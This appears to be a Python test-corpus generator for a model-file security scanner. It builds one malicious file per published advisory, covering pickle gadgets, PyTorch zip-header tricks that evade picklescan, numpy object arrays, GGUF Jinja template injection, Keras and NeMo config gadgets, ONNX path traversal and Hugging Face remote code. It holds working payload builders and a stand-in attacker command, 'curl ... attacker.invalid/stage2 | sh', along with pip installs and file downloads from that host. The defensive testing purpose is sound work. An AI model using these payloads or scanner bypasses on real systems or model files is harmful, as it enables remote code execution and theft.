"""One generated case per published advisory or write-up, built by code, never executed.

Each case builds its file from an *effect*: the attacker's (a command that
would fetch and run a script, written to disk only) or a harmless one (create
a marker file in the working folder). The harmless twin is what proves the
case right: it is loaded by the real loader in a subprocess and must create
the marker (``twin`` names that loader; ``None`` when the library does not
install here, with the reason in ``note``). The scanner must flag both.

To add the next advisory: write a builder that takes an :class:`Effect`, add a
:class:`Case` with the advisory's ids and URL to ``CASES``, pick the loader
(or add one to ``LOADERS``), and run ``tests/scan/advisories``.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from donjon.scan.samples import gguf, keras_zip, onnx_model
from donjon.scan.samples_pickle import _s, glob0, p2

ATTACKER = "curl -s http://attacker.invalid/stage2 | sh"
MARKER = "advisory-twin-ran"
_PIP_TWIN = ["--log", MARKER, "--disable-pip-version-check", "list"]  # pip writes its log there


@dataclass(frozen=True)
class Effect:
    """What a payload does: run ``command`` in a shell, or write ``path`` from Python."""

    command: str
    python: str  # one Python statement with the same effect

    @classmethod
    def attacker(cls) -> Effect:
        return cls(ATTACKER, f"__import__('os').system({ATTACKER!r})")

    @classmethod
    def harmless(cls, marker: str = MARKER) -> Effect:
        return cls(f"touch {marker}", f"open({marker!r}, 'w').close()")


# -- pickle building blocks (protocol 2 opcodes, written by hand) -------------------------


def run_twins(twins: list[tuple[str, Path]]) -> str:
    """One script that loads each ``(loader, path)`` twin in its own folder (errors printed)."""
    parts = ["import os, traceback"]
    for loader, path in twins:
        body = "\n".join("    " + line for line in LOADERS[loader].splitlines())
        parts.append(
            f"path = {str(path)!r}\nos.chdir(os.path.dirname(path))\ntry:\n{body}\n"
            "except BaseException:\n    traceback.print_exc()"
        )
    return "\n".join(parts) + "\n"


def _list(*items: str) -> bytes:
    return b"](" + b"".join(_s(i) for i in items) + b"e"


def _call(target: bytes, *args: bytes) -> bytes:
    return target + b"(" + b"".join(args) + b"tR"


def _shell_pickle(effect: Effect) -> bytes:
    return p2(_call(glob0("os", "system"), _s(effect.command)))


def _torch_zip(pickle_bytes: bytes) -> bytes:
    """A torch.save zip archive holding ``pickle_bytes`` as its data.pkl."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", pickle_bytes)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/.data/serialization_id", "0" * 40)
    return buffer.getvalue()


def _patch_entry(data: bytes, name: bytes, patch: Callable[[bytearray, int, bool], None]) -> bytes:
    """Apply ``patch(buf, header_offset, is_central)`` to both headers of member ``name``."""
    out = bytearray(data)
    for signature, name_at, central in ((b"PK\x03\x04", 30, False), (b"PK\x01\x02", 46, True)):
        at = 0
        while (at := out.find(signature, at)) >= 0:
            if out[at + name_at : at + name_at + len(name)] == name:
                patch(out, at, central)
            at += 4
    return bytes(out)


# -- builders ------------------------------------------------------------------------------


def pip_main(effect: Effect) -> bytes:
    args = _PIP_TWIN if effect.command.startswith("touch") else [
        "install", "--quiet", "git+https://attacker.invalid/payload.git"]  # fmt: skip
    return p2(_call(glob0("pip", "main"), _list(*args)))


def ensurepip_run_pip(effect: Effect) -> bytes:
    args = _PIP_TWIN if effect.command.startswith("touch") else [
        "install", "--quiet", "https://attacker.invalid/payload.whl"]  # fmt: skip
    return p2(_call(glob0("ensurepip", "_run_pip"), _list(*args)))


def timeit_stmt(effect: Effect) -> bytes:
    """timeit.timeit(stmt, setup): the setup statement runs once, before the timing loop."""
    return p2(_call(glob0("timeit", "timeit"), _s("pass"), _s(effect.python)))


def nested_loads(effect: Effect) -> bytes:
    inner = _shell_pickle(effect)
    binbytes = b"B" + len(inner).to_bytes(4, "little") + inner
    return p2(_call(glob0("pickle", "loads"), binbytes))


def operator_methodcaller(effect: Effect) -> bytes:
    caller = _call(glob0("operator", "methodcaller"), _s("system"), _s(effect.command))
    module = _call(glob0("importlib", "import_module"), _s("os"))
    return p2(caller + b"(" + module + b"tR")


def odd_extension(effect: Effect) -> bytes:
    return (f"cos\nsystem\n(V{effect.command}\ntR.").encode()  # protocol 0: no header at all


def zip_name_mismatch(effect: Effect) -> bytes:
    def rename(buf: bytearray, at: int, central: bool) -> None:
        if not central:  # the local header names another member; readers disagree
            buf[at + 30 + len(b"archive/data.pk")] = ord("X")

    return _patch_entry(_torch_zip(_shell_pickle(effect)), b"archive/data.pkl", rename)


def zip_flag_bits(effect: Effect) -> bytes:
    def flag(buf: bytearray, at: int, central: bool) -> None:
        if not central:  # "encrypted" in the local header: readers of it skip, torch reads
            buf[at + 6] |= 0x01

    return _patch_entry(_torch_zip(_shell_pickle(effect)), b"archive/data.pkl", flag)


def zip_bad_crc(effect: Effect) -> bytes:
    def crc(buf: bytearray, at: int, central: bool) -> None:
        offset = at + (16 if central else 14)
        buf[offset : offset + 4] = b"\xde\xad\xbe\xef"

    return _patch_entry(_torch_zip(_shell_pickle(effect)), b"archive/data.pkl", crc)


def gguf_ssti(effect: Effect) -> bytes:
    return gguf(
        "{{ cycler.__init__.__globals__.os.popen(" + repr(effect.command) + ").read() }}"
        "{% for m in messages %}{{ m['content'] }}{% endfor %}"
    )


def nemo_target(effect: Effect) -> bytes:
    config = (
        "encoder:\n  _target_: nemo.collections.asr.modules.ConformerEncoder\n"
        f"preprocessor:\n  _target_: os.system\n  command: {json.dumps(effect.command)}\n"
    ).encode()
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        info = tarfile.TarInfo("model_config.yaml")
        info.size = len(config)
        tar.addfile(info, io.BytesIO(config))
    return buffer.getvalue()


def keras_module_function(effect: Effect) -> bytes:
    layer = {"module": "os", "class_name": "function", "config": "system",
             "registered_name": "system", "args": [effect.command]}  # fmt: skip
    return keras_zip({"class_name": "Functional", "config": {"layers": [layer]}})


def keras_get_file(effect: Effect) -> bytes:
    layer = {"module": "keras.utils", "class_name": "function", "config": "get_file",
             "registered_name": "get_file",
             "args": ["evil.py", "https://attacker.invalid/evil.py"]}  # fmt: skip
    return keras_zip({"class_name": "Functional", "config": {"layers": [layer]}})


def keras_lambda(effect: Effect) -> bytes:
    """Marshalled bytecode, as Keras writes a Lambda (compiled here, never run)."""
    bytecode = marshal.dumps(compile(effect.python, "<lambda>", "eval"))
    code = base64.b64encode(bytecode).decode()
    layer = {"class_name": "Lambda", "config": {"function": [code, None, None],
             "function_type": "lambda"}}  # fmt: skip
    return keras_zip({"class_name": "Sequential", "config": {"layers": [layer]}})


def keras_torch_blob(effect: Effect) -> bytes:
    blob = base64.b64encode(_torch_zip(_shell_pickle(effect))).decode()
    layer = {"module": "keras.layers", "class_name": "TorchModuleWrapper",
             "config": {"module": blob, "name": "torch_module"}}  # fmt: skip
    return keras_zip({"class_name": "Sequential", "config": {"layers": [layer]}})


def numpy_object_array(effect: Effect) -> bytes:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + _shell_pickle(effect)


def onnx_external_traversal(effect: Effect) -> bytes:
    """External data read from outside the model's folder (the payload is the read itself)."""
    return onnx_model(["../../../../etc/passwd"], [])


def hf_auto_map(effect: Effect) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        config = {"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("modeling_x.py", f"import os\nos.system({effect.command!r})\n")
    return buffer.getvalue()


# -- the cases -----------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    name: str  # starts with the advisory id
    refs: tuple[str, ...]
    family: str
    filename: str
    build: Callable[[Effect], bytes]
    twin: str | None  # the real loader that runs the harmless twin, a key of LOADERS
    note: str = ""

    def write(self, folder: Path, effect: Effect) -> Path:
        path = folder / self.name / self.filename
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(self.build(effect))
        return path


_PICKLESCAN = "https://github.com/mmaitre314/picklescan/security/advisories/"
_JFROG = "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/"
_UNIT42 = "https://unit42.paloaltonetworks.com/rce-vulnerabilities-in-ai-python-libraries/"
_KERAS_ONLY = "keras is not installed here (the test extra keeps it out)"

CASES: tuple[Case, ...] = (
    Case("CVE-2025-1716-pip-main", ("CVE-2025-1716",), "package install", "model.pkl",
         pip_main, "pickle"),
    Case("GHSA-xp4f-hrf8-rxw7-ensurepip", (_PICKLESCAN + "GHSA-xp4f-hrf8-rxw7",),
         "package install", "model.pkl", ensurepip_run_pip, "pickle"),
    Case("GHSA-v7x6-rv5q-mhwc-timeit", (_PICKLESCAN + "GHSA-v7x6-rv5q-mhwc",), "exec gadget",
         "model.pkl", timeit_stmt, "pickle"),
    Case("GHSA-84r2-jw7c-4r5q-nested-pickle", (_PICKLESCAN + "GHSA-84r2-jw7c-4r5q",),
         "nested loader", "model.pkl", nested_loads, "pickle"),
    Case("GHSA-m273-6v24-x4m4-operator", (_PICKLESCAN + "GHSA-m273-6v24-x4m4",),
         "resolver gadget", "model.pkl", operator_methodcaller, "pickle"),
    Case("CVE-2025-1889-odd-extension", ("CVE-2025-1889", "CVE-2025-10155", _JFROG),
         "name trick", "weights.data", odd_extension, "pickle"),
    Case("CVE-2025-1944-zip-name-mismatch", ("CVE-2025-1944",), "zip trick", "model.pt",
         zip_name_mismatch, "torch"),
    Case("CVE-2025-1945-zip-flag-bits", ("CVE-2025-1945",), "zip trick", "model.pt",
         zip_flag_bits, "torch"),
    Case("CVE-2025-10156-zip-bad-crc", ("CVE-2025-10156", _JFROG), "zip trick", "model.pt",
         zip_bad_crc, "torch"),
    Case("CVE-2019-6446-numpy-object-array", ("CVE-2019-6446",), "object array", "x.npy",
         numpy_object_array, "numpy"),
    Case("CVE-2024-34359-gguf-ssti", ("CVE-2024-34359",),
         "template injection", "model.gguf", gguf_ssti, "jinja2",
         "rendered with jinja2.Environment as llama-cpp-python < 0.2.72 did"),
    Case("CVE-2025-23304-nemo-target", ("CVE-2025-23304", _UNIT42), "config target",
         "model.nemo", nemo_target, None, "NeMo / Hydra are not installed here"),
    Case("CVE-2025-1550-keras-module-function", ("CVE-2025-1550", "GHSA-48g7-3x6r-xfhp"),
         "keras config", "model.keras", keras_module_function, None, _KERAS_ONLY),
    Case("CVE-2025-8747-keras-get-file", ("CVE-2025-8747", "GHSA-c9rc-mg46-23w3"),
         "keras config", "model.keras", keras_get_file, None, _KERAS_ONLY),
    Case("CVE-2024-3660-keras-lambda", ("CVE-2024-3660",), "keras lambda", "model.keras",
         keras_lambda, None, _KERAS_ONLY),
    Case("CVE-2025-49655-keras-torch-module", ("CVE-2025-49655",), "blob in config",
         "model.keras", keras_torch_blob, "keras-torch-blob",
         "keras is not installed: the embedded blob is run with torch.load, as Keras does"),
    Case("CVE-2022-25882-onnx-external-data-traversal", ("CVE-2022-25882", "CVE-2024-27318"),
         "path traversal", "model.onnx", onnx_external_traversal, None,
         "the installed onnx (1.23) refuses the location (fixed upstream); the file is the "
         "advisory's shape"),
    Case("HF-trust-remote-code-auto-map", ("https://huggingface.co/docs/transformers/custom_models",),
         "shipped code", "model.zip", hf_auto_map, None,
         "transformers is not installed here"),
)  # fmt: skip


def write_corpus(folder: Path, effect: Effect) -> dict[Path, Case]:
    """Every case's file under ``folder/<case name>/``, and ``folder/manifest.json``."""
    written = {case.write(folder, effect): case for case in CASES}
    manifest = [
        {"name": c.name, "refs": list(c.refs), "family": c.family,
         "file": str(p.relative_to(folder)), "twin_loader": c.twin, "note": c.note}
        for p, c in written.items()
    ]  # fmt: skip
    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2))
    return written


# Loader scripts: each runs one twin, ``path`` (a str), in the twin's own folder.
LOADERS: dict[str, str] = {
    "pickle": "import pickle\npickle.load(open(path, 'rb'))",
    "torch": "import torch\ntorch.load(path, weights_only=False)",
    "numpy": "import numpy\nnumpy.load(path, allow_pickle=True)",
    "jinja2": (
        "import struct, jinja2\n"
        "data = open(path, 'rb').read()\n"
        "at = data.index(b'tokenizer.chat_template') + len(b'tokenizer.chat_template') + 4\n"
        "(n,) = struct.unpack('<Q', data[at:at + 8])\n"
        "template = data[at + 8:at + 8 + n].decode()\n"
        "jinja2.Environment().from_string(template).render(messages=[])"
    ),
    "keras-torch-blob": (
        "import base64, io, json, zipfile, torch\n"
        "config = json.loads(zipfile.ZipFile(path).read('config.json'))\n"
        "blob = config['config']['layers'][0]['config']['module']\n"
        "torch.load(io.BytesIO(base64.b64decode(blob)), weights_only=False)"
    ),
}
